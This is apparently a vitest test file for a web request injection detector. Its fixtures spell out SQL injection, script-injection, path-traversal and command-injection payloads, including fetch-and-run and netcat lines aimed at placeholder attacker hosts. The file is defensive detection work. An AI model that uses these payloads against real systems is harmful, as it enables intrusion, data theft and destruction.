import { describe, expect, it } from 'vitest';
import { compile, SIGNATURES, type Signature } from './injection.rules.ts';
import { BROWSER_HEADERS, request } from './injection.testkit.ts';
import { type Detection, detectInjection, percentDecode, type RequestParts } from './injection.ts';

interface Attack {
  readonly req: Partial<RequestParts>;
  readonly expected: Detection;
}

const q = (name: string, value: string | string[]) => ({ query: { [name]: value } });
const ua = (value: string) => ({ headers: { ...BROWSER_HEADERS, 'user-agent': value } });
const SQL = 'sql-injection';
const XSS = 'script-injection';
const CMD = 'command-injection';
const DOTS = 'path-traversal';

const ATTACKS: readonly (readonly [string, Attack])[] = [
  // SQL injection
  ['quoted tautology', { req: q('q', "x' OR '1'='1"), expected: { rule: SQL, location: 'query.q' } }],
  [
    'double-quoted tautology with comment',
    { req: q('name', '" or 1=1--'), expected: { rule: SQL, location: 'query.name' } },
  ],
  ['numeric tautology', { req: q('id', '1 OR 1=1'), expected: { rule: SQL, location: 'query.id' } }],
  [
    'parenthesised tautology',
    {
      req: { body: { search: { term: "') or ('a'='a" } } },
      expected: { rule: SQL, location: 'body.search.term' },
    },
  ],
  ["' or true--", { req: q('q', "' or true--"), expected: { rule: SQL, location: 'query.q' } }],
  ['empty-string tautology', { req: q('q', "' OR ''='"), expected: { rule: SQL, location: 'query.q' } }],
  ['comment after quote', { req: q('user', "admin'--"), expected: { rule: SQL, location: 'query.user' } }],
  [
    'hash comment after quote',
    { req: q('user', "admin' #"), expected: { rule: SQL, location: 'query.user' } },
  ],
  [
    'union select',
    {
      req: { body: { note: { text: "x' UNION SELECT username, password FROM users--" } } },
      expected: { rule: SQL, location: 'body.note.text' },
    },
  ],
  [
    'union all select',
    { req: q('id', '1 union all select null,null--'), expected: { rule: SQL, location: 'query.id' } },
  ],
  [
    'union with inline comments',
    { req: q('id', '1/**/UNION/**/SELECT/**/1,2'), expected: { rule: SQL, location: 'query.id' } },
  ],
  [
    'mysql versioned comment',
    { req: q('id', '1 /*!50000union*/ select 1'), expected: { rule: SQL, location: 'query.id' } },
  ],
  [
    'stacked drop in an encoded path',
    {
      req: { path: '/api/v1/patients/1%3BDROP%20TABLE%20patients' },
      expected: { rule: SQL, location: 'path' },
    },
  ],
  [
    'little Bobby Tables',
    {
      req: { body: { items: [{}, {}, { name: "Robert'); DROP TABLE students;--" }] } },
      expected: { rule: SQL, location: 'body.items[2].name' },
    },
  ],
  [
    'stacked delete',
    { req: q('q', '1; DELETE FROM audit_log WHERE 1=1'), expected: { rule: SQL, location: 'query.q' } },
  ],
  [
    'quote then delete',
    { req: q('q', "x'; delete from users"), expected: { rule: SQL, location: 'query.q' } },
  ],
  [
    'form-encoded tautology, encoded once more',
    { req: q('q', '%27+OR+%271%27%3D%271'), expected: { rule: SQL, location: 'query.q' } },
  ],
  [
    'double-encoded tautology',
    { req: q('q', '%2527%2520OR%2520%25271%2527%253D%25271'), expected: { rule: SQL, location: 'query.q' } },
  ],
  [
    'sleep in the user agent',
    { req: ua("Mozilla/5.0' AND SLEEP(5)-- x"), expected: { rule: SQL, location: 'header.user-agent' } },
  ],
  [
    'pg_sleep',
    {
      req: { body: { filter: { since: "1' || pg_sleep(10)" } } },
      expected: { rule: SQL, location: 'body.filter.since' },
    },
  ],
  [
    'waitfor delay',
    { req: q('sort', "name'; WAITFOR DELAY '0:0:5'"), expected: { rule: SQL, location: 'query.sort' } },
  ],
  [
    'benchmark',
    { req: q('id', '1 AND BENCHMARK(5000000,MD5(1))'), expected: { rule: SQL, location: 'query.id' } },
  ],
  [
    'information_schema',
    {
      req: { body: { q: 'x UNION ALL SELECT table_name FROM information_schema.tables' } },
      expected: { rule: SQL, location: 'body.q' },
    },
  ],
  [
    'xp_cmdshell',
    { req: { body: { q: "'; EXEC xp_cmdshell 'dir'" } }, expected: { rule: SQL, location: 'body.q' } },
  ],
  [
    'union in an encoded referer',
    {
      req: {
        headers: { ...BROWSER_HEADERS, referer: 'https://evil.example/?q=1%27%20union%20select%201--' },
      },
      expected: { rule: SQL, location: 'header.referer' },
    },
  ],
  [
    'tautology in a query array',
    { req: q('tag', ['asthma', "x' or 'a'='a"]), expected: { rule: SQL, location: 'query.tag[1]' } },
  ],

  // Script injection
  [
    'script tag',
    {
      req: { body: { note: { text: 'Fine <script>alert(1)</script>' } } },
      expected: { rule: XSS, location: 'body.note.text' },
    },
  ],
  [
    'img onerror',
    { req: q('q', '"><img src=x onerror=alert(1)>'), expected: { rule: XSS, location: 'query.q' } },
  ],
  [
    'svg onload',
    {
      req: { body: { patient: { name: { given: ['<svg onload=alert(document.cookie)>'] } } } },
      expected: { rule: XSS, location: 'body.patient.name.given[0]' },
    },
  ],
  [
    'svg/onload without a space',
    { req: q('q', '<svg/onload=alert(1)>'), expected: { rule: XSS, location: 'query.q' } },
  ],
  [
    'details ontoggle',
    { req: q('q', '<details open ontoggle=alert(1)>'), expected: { rule: XSS, location: 'query.q' } },
  ],
  [
    'javascript url',
    { req: { body: { link: 'javascript:alert(1)' } }, expected: { rule: XSS, location: 'body.link' } },
  ],
  [
    'mixed-case javascript url',
    { req: q('next', 'JaVaScRiPt:alert(1)'), expected: { rule: XSS, location: 'query.next' } },
  ],
  [
    'javascript url split by a tab',
    {
      req: q('next', '<a href="java\tscript:alert(1)">x</a>'),
      expected: { rule: XSS, location: 'query.next' },
    },
  ],
  [
    'iframe',
    {
      req: { body: { html: '<iframe src="https://evil.example"></iframe>' } },
      expected: { rule: XSS, location: 'body.html' },
    },
  ],
  [
    'srcdoc',
    {
      req: q('q', '<x srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">'),
      expected: { rule: XSS, location: 'query.q' },
    },
  ],
  [
    'data:text/html',
    {
      req: q('next', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='),
      expected: { rule: XSS, location: 'query.next' },
    },
  ],
  [
    'double-encoded script tag',
    {
      req: q('q', '%253Cscript%253Ealert(1)%253C%252Fscript%253E'),
      expected: { rule: XSS, location: 'query.q' },
    },
  ],
  [
    'fullwidth script tag',
    { req: q('q', '＜script＞alert(1)＜/script＞'), expected: { rule: XSS, location: 'query.q' } },
  ],
  [
    'script tag in a member name',
    {
      req: { body: { note: { '<img src=x onerror=alert(1)>': 1 } } },
      expected: { rule: XSS, location: 'body.note{key}' },
    },
  ],
  [
    'script tag in the referer',
    {
      req: { headers: { ...BROWSER_HEADERS, referer: 'https://x.example/<script>' } },
      expected: { rule: XSS, location: 'header.referer' },
    },
  ],

  // Path traversal
  [
    'dot-dot in the path',
    { req: { path: '/api/v1/files/../../etc/passwd' }, expected: { rule: DOTS, location: 'path' } },
  ],
  [
    'encoded dot-dot-slash',
    {
      req: { path: '/api/v1/files/..%2f..%2f..%2fetc%2fpasswd' },
      expected: { rule: DOTS, location: 'path' },
    },
  ],
  [
    'fully encoded dots',
    { req: { path: '/api/v1/files/%2e%2e%2f%2e%2e%2fsecret' }, expected: { rule: DOTS, location: 'path' } },
  ],
  [
    'double-encoded dots',
    {
      req: { path: '/api/v1/files/%252e%252e%252f%252e%252e%252fsecret' },
      expected: { rule: DOTS, location: 'path' },
    },
  ],
  [
    'overlong UTF-8 dots',
    {
      req: { path: '/api/v1/files/%c0%ae%c0%ae/%c0%ae%c0%ae/secret' },
      expected: { rule: DOTS, location: 'path' },
    },
  ],
  [
    'IIS %u dots',
    { req: { path: '/api/v1/files/%u002e%u002e%u002fsecret' }, expected: { rule: DOTS, location: 'path' } },
  ],
  [
    'trailing dot-dot segment',
    { req: { path: '/api/v1/patients/..' }, expected: { rule: DOTS, location: 'path' } },
  ],
  ['tomcat ..;/', { req: { path: '/api/v1/files/..;/admin' }, expected: { rule: DOTS, location: 'path' } }],
  [
    'windows backslashes',
    { req: q('file', '..\\..\\windows\\win.ini'), expected: { rule: DOTS, location: 'query.file' } },
  ],
  [
    'filter-evading ....//',
    { req: q('file', '....//....//secret'), expected: { rule: DOTS, location: 'query.file' } },
  ],
  ['null byte', { req: q('file', 'report.pdf\u0000.png'), expected: { rule: DOTS, location: 'query.file' } }],
  [
    'encoded null byte in the path',
    { req: { path: '/api/v1/files/report.pdf%00.png' }, expected: { rule: DOTS, location: 'path' } },
  ],
  [
    '/etc/passwd in a body',
    {
      req: { body: { attachment: { path: '/etc/passwd' } } },
      expected: { rule: DOTS, location: 'body.attachment.path' },
    },
  ],
  [
    'traversal in a cookie name',
    { req: { headers: { cookie: '../../x=1' } }, expected: { rule: DOTS, location: 'header.cookie' } },
  ],

  // Command injection
  [
    '; cat /etc/passwd',
    { req: q('host', '127.0.0.1; cat /etc/passwd'), expected: { rule: CMD, location: 'query.host' } },
  ],
  [
    'encoded newline then cat: classified by its decoded form',
    { req: q('q', '%0acat%20/etc/passwd'), expected: { rule: CMD, location: 'query.q' } },
  ],
  [
    'encoded ; cat',
    { req: q('host', 'x%3Bcat%20%2Fetc%2Fpasswd'), expected: { rule: CMD, location: 'query.host' } },
  ],
  [
    'pipe to netcat',
    { req: { body: { cmd: 'x | nc attacker.example 4444' } }, expected: { rule: CMD, location: 'body.cmd' } },
  ],
  [
    '$() with curl',
    {
      req: { body: { a: { b: ['$(curl http://evil.example/x.sh | sh)'] } } },
      expected: { rule: CMD, location: 'body.a.b[0]' },
    },
  ],
  ['backticks', { req: q('q', '`cat /etc/shadow`'), expected: { rule: CMD, location: 'query.q' } }],
  ['backtick id', { req: q('q', 'x`id`'), expected: { rule: CMD, location: 'query.q' } }],
  ['&& rm -rf', { req: { body: { name: 'a && rm -rf' } }, expected: { rule: CMD, location: 'body.name' } }],
  [
    '; wget',
    {
      req: { body: { x: 'x; wget http://evil.example/m -O /tmp/m' } },
      expected: { rule: CMD, location: 'body.x' },
    },
  ],
  [
    'shellshock user agent',
    { req: ua("() { :; }; /bin/bash -c 'id'"), expected: { rule: CMD, location: 'header.user-agent' } },
  ],
  ['; uname -a', { req: q('q', 'foo;uname -a'), expected: { rule: CMD, location: 'query.q' } }],
  [
    'newline then ping',
    { req: q('q', 'x\nping -c 10 10.0.0.1'), expected: { rule: CMD, location: 'query.q' } },
  ],
  [
    'curl http',
    { req: ua('curl http://evil.example/'), expected: { rule: CMD, location: 'header.user-agent' } },
  ],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell variable, not a template placeholder
  ['$IFS', { req: q('q', 'cat${IFS}/etc/passwd'), expected: { rule: CMD, location: 'query.q' } }],
  [
    'powershell -enc',
    {
      req: { headers: { ...BROWSER_HEADERS, 'x-forwarded-for': ';powershell -enc SQBFAFgA' } },
      expected: { rule: CMD, location: 'header.x-forwarded-for' },
    },
  ],
  [
    'command in a hostile query name',
    { req: q('a;cat /etc/passwd', '1'), expected: { rule: CMD, location: 'query{key}' } },
  ],
];

describe('detectInjection: attacks are caught with the rule and the place', () => {
  it.each(ATTACKS)('%s', (_name, attack) => {
    expect(detectInjection(request(attack.req))).toEqual(attack.expected);
  });

  it('never puts the value, or a non-identifier member name, in the location', () => {
    const value = detectInjection(request({ body: { 'first name': { given: "' OR '1'='1" } } }));
    expect(value).toEqual({ rule: SQL, location: 'body[?].given' });
    const name = detectInjection(request({ body: { 'first name': { "x' or 'a'='a": 'Ann' } } }));
    expect(name).toEqual({ rule: SQL, location: 'body[?]{key}' });
  });

  it('reports the first hit in document order: path, query, headers, body', () => {
    const hit = detectInjection(
      request({
        query: { a: 'fine', b: '<script>' },
        body: { x: "' OR '1'='1" },
        headers: { referer: '../x' },
      }),
    );
    expect(hit).toEqual({ rule: XSS, location: 'query.b' });
  });

  it('stops walking bodies deeper than the cap instead of recursing without end', () => {
    let deep: unknown = "' OR '1'='1";
    for (let i = 0; i < 10_000; i++) {
      deep = [deep];
    }
    expect(detectInjection(request({ body: deep }))).toBeUndefined();
    expect(detectInjection(request({ body: [[["' OR '1'='1"]]] }))).toEqual({
      rule: SQL,
      location: 'body[0][0][0]',
    });
  });

  it("walks a hostile query parser's nested values like a body", () => {
    const query = { filter: { name: ["' OR '1'='1"] } } as unknown as RequestParts['query'];
    expect(detectInjection(request({ query }))).toEqual({ rule: SQL, location: 'query.filter.name[0]' });
  });

  it('stops at the node cap on a huge flat array without queueing all of it', () => {
    const huge = Array.from({ length: 300_000 }, () => 1);
    const t0 = performance.now();
    expect(detectInjection(request({ body: { huge } }))).toBeUndefined();
    expect(performance.now() - t0).toBeLessThan(200);
  });

  it('has no signature that backtracks badly on long hostile-looking text', () => {
    const n = 20_000;
    const inputs = [
      `${"<a x='".repeat(n / 4)}${"' or ".repeat(n / 4)}${'; cat '.repeat(n / 4)}${'/*'.repeat(n / 4)}`,
      `'${' '.repeat(n)}x`,
      `;${' '.repeat(n)}x`,
      `1${' '.repeat(n)}or${' '.repeat(n)}1${' '.repeat(n)}=`,
      `<a${' '.repeat(n)}`,
      `; nc${' -e'.repeat(n / 3)}`,
      `| cat${' -la'.repeat(n / 4)}`,
      `\x60ls${' '.repeat(n)}`,
      `/*${' '.repeat(n)}`,
      `${'.'.repeat(n)}x`,
      `${"'".repeat(n)}`,
      'a'.repeat(5 * n),
    ];
    const patterns = [
      ...SIGNATURES.map((s) => [s.name, s.pattern] as const),
      ...compile(SIGNATURES).map((c) => [c.rule, c.pattern] as const),
    ];
    for (const input of inputs) {
      for (const [name, pattern] of patterns) {
        const t0 = performance.now();
        pattern.test(input);
        expect(performance.now() - t0, `${name} on ${JSON.stringify(input.slice(0, 12))}`).toBeLessThan(100);
      }
    }
  });
});

describe('percentDecode', () => {
  it('decodes well-formed, overlong and %u escapes and leaves stray percent signs', () => {
    expect(percentDecode('%2e%2e%2f')).toBe('../');
    expect(percentDecode('%c0%ae%c0%af')).toBe('./');
    expect(percentDecode('%e0%80%ae')).toBe('.');
    expect(percentDecode('%u002e%u002F')).toBe('./');
    expect(percentDecode('<5% body fat, 100%')).toBe('<5% body fat, 100%');
    expect(percentDecode('%ff%27')).toBe("%ff'");
    expect(percentDecode('Caf%C3%A9')).toBe('Café');
  });
});

describe('compile', () => {
  it('renumbers backreferences when it joins signatures into one expression', () => {
    const sig = (name: string, pattern: RegExp): Signature => ({ rule: 'sql-injection', name, pattern });
    const [joined] = compile([sig('a', /(x)\1/i), sig('b', /(['"])(\w*)\1=\1\2$/i), sig('c', /\\1/i)]);
    expect(joined?.pattern.test("'a'='a")).toBe(true);
    expect(joined?.pattern.test("'a'='b")).toBe(false);
    expect(joined?.pattern.test('xy')).toBe(false);
    expect(joined?.pattern.test('\\1')).toBe(true);
  });

  it('keeps one expression per rule, flags and scope, in reporting order', () => {
    const rules = compile(SIGNATURES).map((c) => c.rule);
    expect([...new Set(rules)]).toEqual([
      'sql-injection',
      'script-injection',
      'command-injection',
      'path-traversal',
    ]);
    expect(rules.length).toBeLessThanOrEqual(6);
  });
});
